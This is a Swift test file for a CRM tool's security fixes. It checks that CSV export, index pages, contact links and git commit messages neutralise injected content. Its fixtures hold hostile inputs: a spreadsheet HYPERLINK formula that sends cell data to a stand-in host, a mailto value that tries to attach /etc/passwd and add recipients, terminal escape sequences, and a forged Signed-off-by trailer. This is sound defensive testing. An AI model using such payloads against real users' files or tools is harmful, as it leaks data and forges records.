@testable import CRMBrowse
@testable import CRMKit
import CRMTerminal
import Foundation
import Testing

/// What other programs read (issue #30, item 7): a spreadsheet, a Markdown viewer, the phone,
/// mail and messages apps an opener starts, and git.
@Suite struct ReadByOtherProgramsTests {
    /// Finding 10: CSV cells that start with `=`, `+`, `-`, `@`, tab or CR were written as they
    /// are, and a spreadsheet ran them as formulas.
    @Test func csvCellsThatASpreadsheetWouldRunStartWithAnApostrophe() throws {
        let vault = try TemporaryVault()
        try vault.write("people/a.md", "---\nname: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1)\"\ntags: [\"@SUM(1+1)\", \"-2+3\"]\nphone: \"+44 20 7946 0018\"\n---\n")
        try vault.write("people/b.md", "---\nname: Bee\ntags: [\"\\tx\", y]\nphone: \"\\t0123\"\nemail: \"\\rcr@example.org\"\n---\n")
        try vault.write("people/c.md", "---\nname: Plain = Name\ntags: [a-b]\n---\n")
        let result = try vault.crm("export", "--format", "csv", "-o", vault.path + "/people.csv")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(vault.read("people.csv") == "name,id,emails,phones,birthday,tags,every,last,next,due,interactions\r\n"
            + "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",a,,'+44 20 7946 0018,,'@SUM(1+1); -2+3,90d,,,2026-11-29,0\r\n"
            + "Bee,b,\"'\rcr@example.org\",'\t0123,,'\tx; y,90d,,,2026-11-29,0\r\n"
            + "Plain = Name,c,,,,a-b,90d,,,2026-11-29,0\r\n")
        #expect(try vault.crm("export", "--help").stdout.contains("with =, +, -, @, a tab or a carriage return starts with '"))
    }

    /// Finding 11: a line break in a name (accepted from a vCard or a CSV) broke INDEX.md's
    /// table and made a heading.
    @Test func indexPageNamesAreOneLineOfText() throws {
        let vault = try TemporaryVault()
        try vault.write("people/eve.md", "---\nname: \"Eve\\n# Owned | \\e]0;t\\a\"\n---\n\n## Interactions\n\n- 2026-11-20 call: said \u{1B}[2J hi\n")
        let result = try vault.crm("index")
        #expect(result.status == 0, "\(result.stderr)")
        let index = vault.read("INDEX.md")
        #expect(index.contains("| [Eve\\\\n\\# Owned \\| \\\\e\\]0;t\\\\a](people/eve.md) | 2026-11-20 call | 90d | 2027-02-18 |  |\n"), "\(index)")
        #expect(!index.split(separator: "\n").contains { $0.hasPrefix("# Owned") })
        #expect(index.contains(": said \\e[2J hi\n"))
        #expect(!index.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
    }

    /// Finding 12: `tel:`, `sms:` and `mailto:` were built without encoding.
    @Test func telSmsAndMailtoAreBuiltAsTheirRFCsSay() {
        #expect(ContactURI.tel("+44 (0) 20 7946 0018 ext. 23") == "tel:+442079460018;ext=23")
        #expect(ContactURI.sms("+44 (0) 20 7946 0018 ext. 23") == "sms:+442079460018")
        #expect(ContactURI.tel("(555) 010-0100 x7") == "tel:5550100100;ext=7")
        #expect(ContactURI.tel("+1 555 0100;ext=99") == "tel:+15550100;ext=99")
        #expect(ContactURI.tel("020 7946 0018 #12") == "tel:02079460018;ext=12")
        #expect(ContactURI.tel("+971 50 000 0142") == "tel:+971500000142")
        #expect(ContactURI.tel("+44 20 7946 0018?body=hi") == nil)
        #expect(ContactURI.tel("1-800-FLOWERS") == nil)
        #expect(ContactURI.tel("+44 20\n7946") == nil)
        #expect(ContactURI.tel("none") == nil)
        #expect(ContactURI.mailto("eve@example.org?attach=/etc/passwd&cc=mal@example.org\nBcc: x@y")
                == "mailto:eve@example.org%3Fattach=%2Fetc%2Fpasswd%26cc=mal@example.org%0ABcc:%20x@y")
        #expect(ContactURI.mailto("josé+crm@exämple.de") == "mailto:jos%C3%A9+crm@ex%C3%A4mple.de")
        #expect(ContactURI.mailto("a%40b@example.org#x") == "mailto:a%2540b@example.org%23x")
        #expect(ContactURI.mailto("no address") == nil)
    }

    /// Finding 12 in `crm browse`: `c`, `m` and `M` hand the opener the links `ContactURI` builds.
    @Test func browseHandsTheOpenerLinksThatNothingInTheFileAddsTo() throws {
        let probe = try BrowseFixture()
        let opener = try probe.recordingScript("opener", into: "opened.txt")
        let eve = "---\nname: Eve Hostile\nphone: \"+44 (0) 20 7946 0018 ext. 23\"\nemail: \"eve@example.org?attach=/etc/passwd&cc=mal@example.org\"\n---\n"
        let fixture = try BrowseFixture(environment: ["CRM_OPENER": opener], people: ["eve": eve])
        fixture.open("eve hostile")
        fixture.press(.character("c"), .character("m"), .character("M"))
        let opened = try String(contentsOf: probe.home.appendingPathComponent("opened.txt"), encoding: .utf8)
        #expect(opened == "tel:+442079460018;ext=23\nsms:+442079460018\nmailto:eve@example.org%3Fattach=%2Fetc%2Fpasswd%26cc=mal@example.org\n")
    }

    /// Finding 13: with `git: commit`, a name's line break made a `Signed-off-by:` trailer and its
    /// escape bytes went into the history.
    @Test(.enabled(if: GitRepository.gitIsInstalled, "needs git"))
    func commitMessagesAreOneLineOfPrintableText() throws {
        let vault = try TemporaryVault()
        try vault.write(".crm/config.yaml", vault.read(".crm/config.yaml") + "git: commit\n")
        try vault.write("people/eve.md", "---\nname: \"Eve\\n\\nSigned-off-by: Mallory <m@example.org>\\e]0;t\\a\"\n---\n")
        let git = try GitRepository.make(vault.url)
        try git.commit("start")
        let result = try CRM.run(["--vault", vault.path, "log", "eve", "hi"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try git.output("log", "-1", "--format=%s")
                == "log: call with Eve\\n\\nSigned-off-by: Mallory <m@example.org>\\e]0;t\\a (2026-11-29)")
        #expect(try git.output("log", "-1", "--format=%b") == "")
        #expect(try git.output("log", "-1", "--format=%(trailers)") == "")
    }
}
